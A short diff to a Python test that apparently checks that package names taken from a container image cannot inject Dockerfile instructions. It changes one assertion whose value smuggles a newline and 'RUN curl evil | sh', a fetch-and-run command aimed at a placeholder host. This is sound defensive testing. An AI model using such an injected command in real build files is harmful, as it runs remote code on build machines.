@@ -62,4 +62,4 @@ def test_names_from_the_image_never_break_out() -> None:
     instructions = [line for line in out.splitlines() if line and not line.startswith(("#", " "))]
     assert not any(line.startswith("RUN curl") or line.startswith("RUN id") or "pwned" in line for line in instructions)
     assert "nano=7.2-1" in out
-    assert "six\\nRUN curl evil | sh" in out  # said so, escaped, in a comment
+    assert "six\\x0aRUN curl evil | sh" in out  # said so, escaped, in a comment
